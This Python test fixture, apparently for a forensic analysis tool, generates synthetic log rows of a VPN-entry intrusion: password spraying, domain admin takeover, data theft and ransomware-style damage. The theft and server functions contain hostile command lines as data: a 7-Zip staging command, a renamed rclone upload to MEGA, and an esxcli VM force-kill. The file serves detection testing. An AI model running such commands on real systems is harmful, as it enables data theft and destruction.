"""A small VPN-entry intrusion written as event rows, for the issue-16 analysis tests.

Rows follow the shared remote-access / server interface (observer.type vpn, hypervisor,
nas, backup; normalised event.action) and the Windows Security shapes of domain.md
(EventData kept in extra.winlog.event_data). Times are UTC; the case zone is Asia/Tokyo.
Public addresses are real allocations so the offline country table answers: 126.0.0.0/8
(JP), 5.188.10.0/24 (RU).
"""

from __future__ import annotations

import json
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from ashiato.analysis.context import Context
from ashiato.case import Case, EventWriter
from ashiato.normalize import finalize_batch
from ashiato.schema import NAMES, batch_from_columns

# Friday 2026-03-06 17:00 UTC = Saturday 02:00 JST: the intrusion
T0 = datetime(2026, 3, 6, 17, 0, tzinfo=UTC)
HOME_IP, ATTACKER_IP = "126.0.0.1", "5.188.10.1"
TUNNEL, HOME_TUNNEL = "10.212.134.200", "10.212.134.201"
FS, FS_IP, DC = "srv-file01", "10.0.5.10", "dc01"
VICTIM = "suzuki"


def at(minutes: float) -> datetime:
    return T0 + timedelta(minutes=minutes)


def make_case(tmp: Path, rows: list[dict[str, Any]]) -> Case:
    case = Case.create_or_open(tmp / "case", tz="Asia/Tokyo")
    groups: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for r in rows:
        groups[r.get("evidence_id") or r["event.dataset"]].append(r)
    for ev, rs in groups.items():
        rs.sort(key=lambda r: r["@timestamp"])
        for i, r in enumerate(rs, 1):
            r["record"] = i
        cols = {n: [r.get(n) for r in rs] for n in NAMES if n != "evidence_id"}
        w = EventWriter(case, ev, rs[0]["event.dataset"])
        w.add(finalize_batch(batch_from_columns(cols, len(rs)), ev, rs[0]["event.dataset"]))
        w.close()
    return case


def make_ctx(tmp: Path, rows: list[dict[str, Any]]) -> Context:
    return Context(events=make_case(tmp, rows).ibis().table("events"), tz="Asia/Tokyo")


def vpn(
    minutes: float,
    action: str,
    user: str,
    src: str,
    outcome: str | None = None,
    tunnel: str | None = None,
    **kw: Any,
) -> dict[str, Any]:
    cat = "authentication" if action == "vpn-login" else "session"
    row = {
        "@timestamp": at(minutes),
        "event.dataset": "fortigate.event",
        "observer.type": "vpn",
        "observer.vendor": "Fortinet",
        "observer.name": "fgt-hq",
        "event.category": cat,
        "event.action": action,
        "event.outcome": outcome,
        "user.name": user,
        "source.ip": src,
        "host.ip": tunnel,
        "evidence_id": "fgt-vpn",
    }
    row.update(kw)
    return row


def sec(minutes: float, code: str, host: str, data: dict[str, Any], **kw: Any) -> dict[str, Any]:
    row = {
        "@timestamp": at(minutes),
        "event.dataset": "windows.security",
        "event.code": code,
        "event.provider": "Microsoft-Windows-Security-Auditing",
        "host.name": host,
        "extra": json.dumps({"winlog": {"channel": "Security", "event_data": data}}),
        "evidence_id": f"sec-{host}",
    }
    row.update(kw)
    return row


def logon(minutes: float, host: str, user: str, src: str, kind: int = 10) -> dict[str, Any]:
    data = {"TargetUserName": user, "LogonType": kind, "IpAddress": src, "WorkstationName": "-"}
    return sec(
        minutes,
        "4624",
        host,
        data,
        **{"user.name": user, "source.ip": src, "winlog.logon.type": kind, "event.action": "logon"},
    )


def normal_use() -> list[dict[str, Any]]:
    """Two weeks of ordinary VPN use from home in Japan, weekdays at 09:00 JST."""
    rows = []
    for day in range(1, 15):
        start = T0 - timedelta(days=day)
        local9 = start.replace(hour=0)  # 09:00 JST
        if (local9 + timedelta(hours=9)).weekday() >= 5:
            continue
        m = (local9 - T0).total_seconds() / 60
        for user, ip, tun in (
            (VICTIM, HOME_IP, HOME_TUNNEL),
            ("tanaka", "126.0.0.2", "10.212.134.9"),
        ):
            rows.append(vpn(m, "vpn-login", user, ip, "success"))
            rows.append(vpn(m + 0.1, "vpn-session-start", user, ip, tunnel=tun))
            rows.append(
                vpn(
                    m + 480,
                    "vpn-session-end",
                    user,
                    ip,
                    tunnel=tun,
                    **{"source.bytes": 10_000, "destination.bytes": 90_000},
                )
            )
    return rows


def spray() -> list[dict[str, Any]]:
    """Password spraying from Russia across eight accounts, then suzuki gets in."""
    rows = []
    for i, user in enumerate(["admin", "test", "yamada", "sato", "ito", "kato", "abe", VICTIM]):
        rows.append(vpn(-30 + i, "vpn-login", user, ATTACKER_IP, "failure"))
    rows.append(vpn(0, "vpn-login", VICTIM, ATTACKER_IP, "success"))
    rows.append(vpn(0.2, "vpn-session-start", VICTIM, ATTACKER_IP, tunnel=TUNNEL))
    rows.append(
        vpn(
            300,
            "vpn-session-end",
            VICTIM,
            ATTACKER_IP,
            tunnel=TUNNEL,
            **{"source.bytes": 4_000_000_000, "destination.bytes": 50_000_000},
        )
    )
    # the real suzuki, at home, still connected from the evening before
    rows.append(vpn(-120, "vpn-login", VICTIM, HOME_IP, "success"))
    rows.append(vpn(-119.8, "vpn-session-start", VICTIM, HOME_IP, tunnel=HOME_TUNNEL))
    return rows


def domain() -> list[dict[str, Any]]:
    """RDP from the VPN pool, then the domain taken: new admin, DCSync, roasting, GPO."""
    new = "svc_backup2"
    subj = {"SubjectUserName": VICTIM, "SubjectDomainName": "CORP"}
    return [
        logon(5, FS, VICTIM, TUNNEL),
        logon(6, DC, VICTIM, TUNNEL, kind=3),
        sec(
            10,
            "4720",
            DC,
            {**subj, "TargetUserName": new, "SamAccountName": new},
            **{"user.name": VICTIM, "event.action": "user-created"},
        ),
        sec(
            11,
            "4728",
            DC,
            {
                **subj,
                "TargetUserName": "Domain Admins",
                "MemberName": f"CN={new},CN=Users,DC=corp,DC=local",
            },
            **{"user.name": VICTIM, "event.action": "group-member-added"},
        ),
        sec(12, "4724", DC, {**subj, "TargetUserName": "administrator"}),
        sec(
            20,
            "4662",
            DC,
            {"SubjectUserName": new, "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"},
        ),
        sec(
            21,
            "4769",
            DC,
            {
                "TargetUserName": f"{VICTIM}@CORP.LOCAL",
                "ServiceName": "sql_svc",
                "TicketEncryptionType": "0x17",
                "IpAddress": TUNNEL,
            },
            **{"source.ip": TUNNEL, "user.name": VICTIM},
        ),
        sec(
            21.5,
            "4769",
            DC,
            {
                "TargetUserName": f"{VICTIM}@CORP.LOCAL",
                "ServiceName": "web_svc",
                "TicketEncryptionType": "0x17",
                "IpAddress": TUNNEL,
            },
            **{"source.ip": TUNNEL, "user.name": VICTIM},
        ),
        sec(
            22,
            "4768",
            DC,
            {"TargetUserName": "legacy_app", "PreAuthType": "0", "IpAddress": TUNNEL},
            **{"source.ip": TUNNEL},
        ),
        sec(
            30,
            "5136",
            DC,
            {
                "SubjectUserName": new,
                "ObjectClass": "groupPolicyContainer",
                "ObjectDN": "CN={31B2F340-016D-11D2-945F-00C04FB984F9},"
                "CN=Policies,CN=System,DC=corp,DC=local",
                "AttributeLDAPDisplayName": "gPCMachineExtensionNames",
            },
        ),
        # an ordinary hire the day before, by the IT admin: listed, not blamed
        sec(
            -1400,
            "4720",
            DC,
            {
                "SubjectUserName": "it_admin",
                "TargetUserName": "newhire",
                "SamAccountName": "newhire",
            },
            **{"user.name": "it_admin"},
        ),
        # a lone RC4 ticket from an old client is not roasting
        sec(
            -600,
            "4769",
            DC,
            {
                "TargetUserName": "printer_user",
                "ServiceName": "print_svc",
                "TicketEncryptionType": "0x17",
                "IpAddress": "10.0.9.9",
            },
        ),
    ]


def theft() -> list[dict[str, Any]]:
    """Staging with 7-Zip, a renamed rclone to MEGA, firewall bytes; Squid without sizes."""
    proc = {
        "event.dataset": "windows.sysmon",
        "event.code": "1",
        "host.name": FS,
        "user.name": VICTIM,
        "evidence_id": "sysmon-fs",
    }
    rows = [
        {
            **proc,
            "@timestamp": at(40),
            "process.executable": r"C:\Program Files\7-Zip\7z.exe",
            "process.command_line": r'"C:\Program Files\7-Zip\7z.exe" a -pX -mhe C:\PerfLogs\a.7z '
            r"D:\share\経理",
        },
        {
            **proc,
            "@timestamp": at(60),
            "process.executable": r"C:\PerfLogs\svchost.exe",
            "process.command_line": r"C:\PerfLogs\svchost.exe copy C:\PerfLogs\a.7z mega:bk "
            r"--transfers 16 --config C:\PerfLogs\rc.conf -q",
        },
    ]
    for i in range(6):
        rows.append(
            {
                "@timestamp": at(61 + i),
                "event.dataset": "fortigate.traffic",
                "observer.type": "firewall",
                "source.ip": FS_IP,
                "destination.ip": "31.216.145.5",
                "destination.port": 443,
                "destination.domain": "gfs270n065.userstorage.mega.co.nz",
                "source.bytes": 500_000_000,
                "destination.bytes": 20_000,
                "evidence_id": "fgt-traffic",
            }
        )
    rows.append(
        {
            "@timestamp": at(-300),
            "event.dataset": "fortigate.traffic",
            "observer.type": "firewall",
            "source.ip": "10.0.7.7",
            "destination.ip": "8.8.8.8",
            "destination.port": 53,
            "source.bytes": 80,
            "evidence_id": "fgt-traffic",
        }
    )
    rows.append(
        {
            "@timestamp": at(-200),
            "event.dataset": "squid.access",
            "observer.type": "proxy",
            "source.ip": "10.0.7.7",
            "url.original": "http://example.jp/",
            "url.domain": "example.jp",
            "destination.bytes": 3000,
            "evidence_id": "squid",
        }
    )
    return rows


def servers() -> list[dict[str, Any]]:
    """ESXi: SSH on, VMs killed, disks renamed; Veeam jobs deleted; a NAS mass rename."""
    esx = {
        "host.name": "esx01",
        "observer.type": "hypervisor",
        "observer.vendor": "VMware",
        "evidence_id": "esx01-logs",
    }
    rows = [
        {
            **esx,
            "@timestamp": at(90),
            "event.dataset": "esxi.hostd",
            "event.action": "ssh-enabled",
            "user.name": "root",
            "source.ip": TUNNEL,
        },
        {
            **esx,
            "@timestamp": at(92),
            "event.dataset": "esxi.shell",
            "event.action": "shell-command",
            "process.command_line": "esxcli vm process kill --type=force --world-id=2101",
        },
        {
            **esx,
            "@timestamp": at(92.5),
            "event.dataset": "esxi.hostd",
            "event.action": "vm-power-off",
            "message": "VM fs01 powered off",
        },
    ]
    for i, vm in enumerate(["fs01", "erp01", "web01"]):
        old = f"/vmfs/volumes/datastore1/{vm}/{vm}-flat.vmdk"
        rows.append(
            {
                **esx,
                "@timestamp": at(95 + i),
                "event.dataset": "esxi.vmkernel",
                "event.action": "file-rename",
                "file.path": old + ".qlkzx",
                "extra": json.dumps({"old_path": old}),
            }
        )
    for i, action in enumerate(["backup-job-deleted", "restore-point-deleted"]):
        rows.append(
            {
                "@timestamp": at(80 + i),
                "event.dataset": "veeam.backup",
                "observer.type": "backup",
                "host.name": "bk01",
                "event.action": action,
                "user.name": "svc_backup2",
                "message": f"{action}: Job FS daily",
                "evidence_id": "veeam",
            }
        )
    for i in range(60):
        rows.append(
            {
                "@timestamp": at(100 + i / 2),
                "event.dataset": "synology.filexfer",
                "observer.type": "nas",
                "host.name": "nas01",
                "event.action": "file-rename",
                "user.name": VICTIM,
                "source.ip": FS_IP,
                "file.path": f"/volume1/share/doc{i}.xlsx.akira",
                "evidence_id": "nas01",
            }
        )
    return rows


def intrusion() -> list[dict[str, Any]]:
    return normal_use() + spray() + domain() + theft() + servers()
